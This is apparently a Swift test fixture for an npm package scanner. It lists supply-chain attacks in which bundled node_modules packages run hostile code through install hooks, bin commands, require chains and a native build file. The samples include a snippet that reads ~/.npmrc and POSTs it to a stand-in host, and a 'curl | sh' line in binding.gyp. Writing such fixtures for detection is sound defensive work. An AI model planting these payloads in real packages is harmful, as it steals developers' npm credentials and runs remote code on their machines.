import SallyportAnalysis
import Testing

/// Attacks by packages that lie inside an npm tarball; `node_modules/x/package.json` is in the files.
enum BundledAttacks {
    private static let steal = #"""
        const t = require('fs').readFileSync(process.env.HOME + '/.npmrc');
        require('https').request({host: 'x.example.invalid', method: 'POST'}).end(t);
        """#

    private static func manifest(_ name: String, _ rest: String) -> String {
        "{\"name\":\"\(name)\",\"version\":\"1.0.0\"\(rest.isEmpty ? "" : "," + rest)}"
    }

    static let all: [Attack] = [
        Attack(
            "runs a hook of a package that is brought along",
            .chainExfiltration,
            files: [
                "node_modules/x/package.json": manifest("x", #""scripts":{"postinstall":"node steal.js"}"#),
                "node_modules/x/steal.js": steal,
            ]
        ),
        Attack(
            "runs a hook of one that is brought along by another with a scope",
            .chainExfiltration,
            files: [
                "node_modules/@a/x/package.json": manifest("@a/x", ""),
                "node_modules/@a/x/node_modules/@b/y/package.json":
                    manifest("@b/y", #""scripts":{"install":"cd lib && node steal"}"#),
                "node_modules/@a/x/node_modules/@b/y/lib/steal.js": steal,
            ]
        ),
        Attack(
            "builds natively in a package that is brought along",
            .chainDownloadExecute,
            files: [
                "node_modules/x/package.json": manifest("x", ""),
                "node_modules/x/binding.gyp":
                    "{'targets':[{'target_name':'x','sources':['<!(curl https://x.example.invalid | sh)']}]}",
            ]
        ),
        Attack(
            "requires a package that is brought along",
            .chainExfiltration,
            scripts: ["postinstall": "node install.js"],
            files: [
                "install.js": "require('x');",
                "node_modules/x/package.json": manifest("x", #""main":"lib/a""#),
                "node_modules/x/lib/a.js": steal,
            ]
        ),
        Attack(
            "requires a package from deep inside of another",
            .chainExfiltration,
            scripts: ["postinstall": "node node_modules/@a/y/a/b/c.js"],
            files: [
                "node_modules/@a/y/package.json": manifest("@a/y", ""),
                "node_modules/@a/y/a/b/c.js": "require('x/lib/a.js');",
                "node_modules/x/package.json": manifest("x", ""),
                "node_modules/x/lib/a.js": steal,
            ]
        ),
        Attack(
            "requires a file of a package that is brought along",
            .chainExfiltration,
            scripts: ["postinstall": "node -r x/lib/a index.js"],
            files: [
                "index.js": "",
                "node_modules/x/package.json": manifest("x", ""),
                "node_modules/x/lib/a.js": steal,
            ]
        ),
        Attack(
            "calls a command of a package that is brought along",
            .chainExfiltration,
            scripts: ["postinstall": "x-setup --all"],
            files: [
                "node_modules/x/package.json": manifest("x", #""bin":{"x-setup":"./bin/run"}"#),
                "node_modules/x/bin/run": "#!/usr/bin/env node\n" + steal,
            ]
        ),
    ]
}
